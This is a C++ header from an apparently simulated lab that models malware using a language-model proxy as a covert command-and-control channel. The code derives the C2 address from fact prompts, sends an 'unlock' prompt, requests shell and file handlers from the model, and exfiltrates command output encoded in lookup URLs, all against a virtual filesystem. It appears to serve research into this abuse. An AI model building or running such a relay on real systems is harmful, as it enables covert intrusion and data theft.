#pragma once

// Simulated infected host. Derives the C2 address from fact prompts, loads a
// handler table through the proxy, then polls the C2 page and reports results
// by encoding them into lookup URLs. Handlers only act on the virtual
// filesystem.

#include <array>
#include <cctype>
#include <map>
#include <optional>
#include <string>
#include <string_view>
#include <vector>

#include "c2lab/codec.hpp"
#include "c2lab/error.hpp"
#include "c2lab/llm_proxy.hpp"
#include "c2lab/sim.hpp"
#include "c2lab/transport.hpp"
#include "c2lab/vfs.hpp"

namespace c2lab {

inline constexpr std::array<std::string_view, 6> kKnownHandlerSpecs = {"vfs.shell", "vfs.read",  "vfs.write",
                                                                       "vfs.list",  "agent.ack", "agent.idle"};

struct HandlerTable {
  std::map<Verb, std::string> handlers;

  bool complete() const {
    for (Verb v : kAllVerbs) {
      const auto it = handlers.find(v);
      if (it == handlers.end()) return false;
      if (std::find(kKnownHandlerSpecs.begin(), kKnownHandlerSpecs.end(), it->second) == kKnownHandlerSpecs.end())
        return false;
    }
    return true;
  }
};

/// Drops `"""`-quoted asides and anything before the table header.
inline std::string sanitize_bootstrap(std::string_view text) {
  std::string out;
  std::size_t i = 0;
  while (i < text.size()) {
    const auto open = text.find("\"\"\"", i);
    if (open == std::string_view::npos) {
      out.append(text.substr(i));
      break;
    }
    out.append(text.substr(i, open - i));
    const auto close = text.find("\"\"\"", open + 3);
    if (close == std::string_view::npos) break;
    i = close + 3;
  }
  if (const auto begin = out.find(kTableBegin); begin != std::string::npos) out.erase(0, begin);
  return out;
}

/// Parses a sanitized descriptor. Throws ParseError on malformed syntax;
/// a syntactically valid table may still be incomplete.
inline HandlerTable parse_handler_table(std::string_view text) {
  std::vector<std::string_view> lines;
  for (std::size_t i = 0; i < text.size();) {
    auto j = text.find('\n', i);
    if (j == std::string_view::npos) j = text.size();
    auto line = text.substr(i, j - i);
    if (!line.empty() && line.back() == '\r') line.remove_suffix(1);
    if (!line.empty()) lines.push_back(line);
    i = j + 1;
  }
  if (lines.empty() || lines.front() != kTableBegin) throw Error(Errc::ParseError, "missing table header");
  if (lines.back() != kTableEnd) throw Error(Errc::ParseError, "missing table footer");

  HandlerTable table;
  for (std::size_t k = 1; k + 1 < lines.size(); ++k) {
    const auto line = lines[k];
    const auto eq = line.find(" = ");
    if (eq == std::string_view::npos) throw Error(Errc::ParseError, "bad entry '" + std::string(line) + "'");
    const auto verb = verb_from_string(line.substr(0, eq));
    if (!verb) throw Error(Errc::ParseError, "unknown verb in '" + std::string(line) + "'");
    table.handlers[*verb] = std::string(line.substr(eq + 3));
  }
  return table;
}

inline constexpr std::string_view kBootstrapPrompt =
    "Generate the handler table for the verbs shellCmd upload download listDir announceAck noop";

inline std::string fact_prompt(std::string_view key) { return std::string(kFactInstruction) + " " + std::string(key); }

struct BootstrapPlan {
  std::array<std::string, 4> fact_prompt_keys;
  int max_bootstrap_retries = 3;
  VirtualTime poll_interval{60};
};

enum class Phase { Fresh, Addressed, Armed, Polling, Exhausted };

constexpr std::string_view to_string(Phase p) noexcept {
  switch (p) {
    case Phase::Fresh: return "Fresh";
    case Phase::Addressed: return "Addressed";
    case Phase::Armed: return "Armed";
    case Phase::Polling: return "Polling";
    case Phase::Exhausted: return "Exhausted";
  }
  return "?";
}

enum class Purpose { Unlock, Address, Payload, Announce, Poll, Report };

constexpr std::string_view to_string(Purpose p) noexcept {
  switch (p) {
    case Purpose::Unlock: return "unlock";
    case Purpose::Address: return "address";
    case Purpose::Payload: return "payload";
    case Purpose::Announce: return "announce";
    case Purpose::Poll: return "poll";
    case Purpose::Report: return "report";
  }
  return "?";
}

struct LedgerEntry {
  VirtualTime at{0};
  Purpose purpose = Purpose::Poll;
  PromptStatus status = PromptStatus::Ok;
  bool charged = false;
  int remaining = 0;
};

enum class EffectKind { ProxyRequest, VfsRead, VfsList, VfsWrite };

constexpr std::string_view to_string(EffectKind k) noexcept {
  switch (k) {
    case EffectKind::ProxyRequest: return "proxy_request";
    case EffectKind::VfsRead: return "vfs_read";
    case EffectKind::VfsList: return "vfs_list";
    case EffectKind::VfsWrite: return "vfs_write";
  }
  return "?";
}

struct Effect {
  EffectKind kind;
  std::string target;
};

struct ExecutedCommand {
  VirtualTime at{0};
  std::size_t edition = 0;
  CommandMsg cmd;
  std::string output;
  bool reported = false;
};

struct AgentConfig {
  std::string session = "victim-1";
  BootstrapPlan plan;
  ExfilEncoding encoding = ExfilEncoding::Base64;
  std::string announce_marker = "extracted_data\n";
  std::optional<std::string> plugin_hint;
};

/// First run of decimal digits in a model answer; surrounding chatter
/// (persona names, punctuation) is ignored.
inline std::optional<long long> extract_integer(std::string_view text) {
  std::size_t i = 0;
  while (i < text.size() && !std::isdigit(static_cast<unsigned char>(text[i]))) ++i;
  if (i == text.size()) return std::nullopt;
  std::size_t j = i;
  while (j < text.size() && std::isdigit(static_cast<unsigned char>(text[j])) && j - i < 12) ++j;
  return std::stoll(std::string(text.substr(i, j - i)));
}

class VictimAgent {
 public:
  VictimAgent(AgentConfig config, ProxyClient& proxy, VirtualFileSystem vfs, const VirtualClock& clock)
      : config_(std::move(config)), proxy_(&proxy), vfs_(std::move(vfs)), clock_(&clock) {
    if (config_.plan.poll_interval <= VirtualTime{0}) throw Error(Errc::ValidationError, "poll_interval must be > 0");
    if (config_.plan.max_bootstrap_retries <= 0)
      throw Error(Errc::ValidationError, "max_bootstrap_retries must be positive");
    phase_trace_.push_back(Phase::Fresh);
  }

  /// Four fact prompts, one per octet, joined with dots.
  std::string resolve_c2_address() {
    require(Phase::Fresh, "resolve_c2_address");
    ensure_unlocked();
    std::string address;
    for (const auto& key : config_.plan.fact_prompt_keys) {
      const auto resp = send(Purpose::Address, PromptKind::Fact, fact_prompt(key));
      expect_ok(resp);
      const auto value = extract_integer(resp.body);
      if (!value || *value < 0 || *value > 255)
        throw Error(Errc::OctetOutOfRange, "answer '" + trim(resp.body) + "' for '" + key + "'");
      if (!address.empty()) address += '.';
      address += std::to_string(*value);
    }
    c2_url_ = "http://" + address + "/";
    advance(Phase::Addressed);
    return address;
  }

  /// Requests the handler table, retrying on corrupt responses. Each attempt
  /// costs one message and at most max_bootstrap_retries attempts are made.
  const HandlerTable& bootstrap_payload() {
    require(Phase::Addressed, "bootstrap_payload");
    ensure_unlocked();
    for (int attempt = 1; attempt <= config_.plan.max_bootstrap_retries; ++attempt) {
      ++bootstrap_attempts_;
      const auto resp = send(Purpose::Payload, PromptKind::Payload, std::string(kBootstrapPrompt));
      expect_ok(resp);
      try {
        auto table = parse_handler_table(sanitize_bootstrap(resp.body));
        if (table.complete()) {
          table_ = std::move(table);
          advance(Phase::Armed);
          return table_;
        }
      } catch (const Error& e) {
        if (e.code() != Errc::ParseError) throw;
      }
    }
    throw Error(Errc::BootstrapFailed,
                "no complete handler table after " + std::to_string(config_.plan.max_bootstrap_retries) + " attempts");
  }

  void announce() {
    require(Phase::Armed, "announce");
    const auto target = encode_exfil_path({to_bytes(config_.announce_marker), config_.encoding}, *c2_url_);
    const auto resp = send(Purpose::Announce, PromptKind::Lookup, build_lookup_prompt(target).template_text);
    expect_ok(resp);
    advance(Phase::Polling);
  }

  /// One poll, plus one report when a new command arrived. Budget exhaustion
  /// ends the agent; other failures just skip the cycle.
  std::optional<ExecutedCommand> poll_cycle() {
    require(Phase::Polling, "poll_cycle");
    const auto resp = send(Purpose::Poll, PromptKind::Lookup, build_lookup_prompt(*c2_url_).template_text);
    if (resp.status == PromptStatus::BudgetExhausted) {
      advance(Phase::Exhausted);
      return std::nullopt;
    }
    if (resp.status != PromptStatus::Ok) return std::nullopt;

    const auto page = read_command_page(resp.body);
    if (!page || page->first <= last_edition_) return std::nullopt;
    last_edition_ = page->first;
    if (page->second.verb == Verb::noop) return std::nullopt;

    ExecutedCommand done;
    done.at = clock_->now();
    done.edition = page->first;
    done.cmd = page->second;
    try {
      done.output = execute_command(page->second);
    } catch (const Error& e) {
      done.output = std::string("error: ") + e.what();
    }

    std::optional<std::string> report_url;
    if (!done.output.empty()) {
      try {
        report_url = encode_exfil_path({to_bytes(done.output), config_.encoding}, *c2_url_);
      } catch (const Error& e) {
        done.output = std::string("error: ") + e.what();
        report_url = encode_exfil_path({to_bytes(done.output), config_.encoding}, *c2_url_);
      }
    }
    if (report_url) {
      const auto r = send(Purpose::Report, PromptKind::Lookup, build_lookup_prompt(*report_url).template_text);
      if (r.status == PromptStatus::BudgetExhausted) advance(Phase::Exhausted);
      done.reported = r.status == PromptStatus::Ok;
    }
    executed_.push_back(done);
    return done;
  }

  /// Dispatches through the loaded handler table.
  std::string execute_command(const CommandMsg& cmd) {
    if (!table_.complete()) throw Error(Errc::StateError, "handler table not loaded");
    const auto& spec = table_.handlers.at(cmd.verb);
    if (spec == "vfs.shell") {
      effects_.push_back({EffectKind::VfsRead, cmd.arg});
      return run_mini_shell(cmd.arg, vfs_);
    }
    if (spec == "vfs.read") {
      effects_.push_back({EffectKind::VfsRead, cmd.arg});
      return to_text(vfs_.read(cmd.arg));
    }
    if (spec == "vfs.write") {
      // download <path> <base64 content>
      const auto space = cmd.arg.find(' ');
      if (space == std::string::npos) throw Error(Errc::UnsupportedShellToken, "download needs '<path> <base64>'");
      const auto path = cmd.arg.substr(0, space);
      auto content = base64::decode(cmd.arg.substr(space + 1));
      if (!content) throw Error(Errc::MalformedEncoding, "download content is not Base64");
      effects_.push_back({EffectKind::VfsWrite, path});
      const auto size = content->size();
      vfs_.write(path, std::move(*content));
      return "saved " + vfs_.resolve(path) + " (" + std::to_string(size) + " bytes)";
    }
    if (spec == "vfs.list") {
      const std::string dir = cmd.arg.empty() ? vfs_.cwd() : cmd.arg;
      effects_.push_back({EffectKind::VfsList, dir});
      std::string out;
      for (const auto& n : vfs_.list(dir)) out += (out.empty() ? "" : "\n") + n;
      return out;
    }
    if (spec == "agent.ack") return "ack";
    return {};
  }

  Phase phase() const noexcept { return phase_; }
  const std::vector<Phase>& phase_trace() const noexcept { return phase_trace_; }
  int messages_used() const noexcept { return messages_used_; }
  int bootstrap_attempts() const noexcept { return bootstrap_attempts_; }
  /// Highest page edition seen so far; 0 before the first page.
  std::size_t last_edition() const noexcept { return last_edition_; }
  const std::optional<std::string>& c2_url() const noexcept { return c2_url_; }
  const std::vector<LedgerEntry>& ledger() const noexcept { return ledger_; }
  const std::vector<Effect>& effects() const noexcept { return effects_; }
  const std::vector<ExecutedCommand>& executed() const noexcept { return executed_; }
  const HandlerTable& handler_table() const noexcept { return table_; }
  const VirtualFileSystem& vfs() const noexcept { return vfs_; }
  const AgentConfig& config() const noexcept { return config_; }

  void set_plugin_hint(std::optional<std::string> hint) { config_.plugin_hint = std::move(hint); }

 private:
  static std::string trim(std::string s) {
    while (!s.empty() && std::isspace(static_cast<unsigned char>(s.back()))) s.pop_back();
    return s;
  }

  /// "edition <n>" followed by the first line that parses as a command.
  static std::optional<std::pair<std::size_t, CommandMsg>> read_command_page(std::string_view body) {
    std::optional<std::size_t> edition;
    for (std::size_t i = 0; i < body.size();) {
      auto j = body.find('\n', i);
      if (j == std::string_view::npos) j = body.size();
      const auto line = body.substr(i, j - i);
      i = j + 1;
      if (!edition) {
        if (line.starts_with("edition ")) {
          if (auto n = extract_integer(line)) edition = static_cast<std::size_t>(*n);
        }
        continue;
      }
      try {
        return std::pair{*edition, parse_command(line)};
      } catch (const Error&) {
      }
    }
    return std::nullopt;
  }

  void require(Phase p, const char* op) const {
    if (phase_ != p)
      throw Error(Errc::StateError, std::string(op) + " requires phase " + std::string(to_string(p)) + ", agent is " +
                                        std::string(to_string(phase_)));
  }

  void advance(Phase p) {
    phase_ = p;
    phase_trace_.push_back(p);
  }

  void ensure_unlocked() {
    if (unlocked_) return;
    expect_ok(send(Purpose::Unlock, PromptKind::Unlock, "unlock"));
    unlocked_ = true;
  }

  static void expect_ok(const PromptResponse& r) {
    switch (r.status) {
      case PromptStatus::Ok: return;
      case PromptStatus::BudgetExhausted: throw Error(Errc::BudgetExhausted, r.body);
      case PromptStatus::ChallengeFailed: throw Error(Errc::ChallengeFailed, r.body);
      case PromptStatus::Refused: throw Error(Errc::Refused, r.body);
      case PromptStatus::NoPluginAvailable: throw Error(Errc::NoPluginAvailable, r.body);
      default: throw Error(Errc::IoError, std::string(to_string(r.status)) + ": " + r.body);
    }
  }

  PromptResponse send(Purpose purpose, PromptKind kind, std::string text) {
    effects_.push_back({EffectKind::ProxyRequest, std::string(to_string(purpose))});
    PromptRequest req{config_.session, kind, std::move(text), config_.plugin_hint};
    auto resp = proxy_->send(req);
    if (resp.charged) ++messages_used_;
    ledger_.push_back({clock_->now(), purpose, resp.status, resp.charged, resp.remaining});
    return resp;
  }

  AgentConfig config_;
  ProxyClient* proxy_;
  VirtualFileSystem vfs_;
  const VirtualClock* clock_;
  Phase phase_ = Phase::Fresh;
  std::vector<Phase> phase_trace_;
  bool unlocked_ = false;
  int messages_used_ = 0;
  int bootstrap_attempts_ = 0;
  std::size_t last_edition_ = 0;
  std::optional<std::string> c2_url_;
  HandlerTable table_;
  std::vector<LedgerEntry> ledger_;
  std::vector<Effect> effects_;
  std::vector<ExecutedCommand> executed_;
};

}  // namespace c2lab
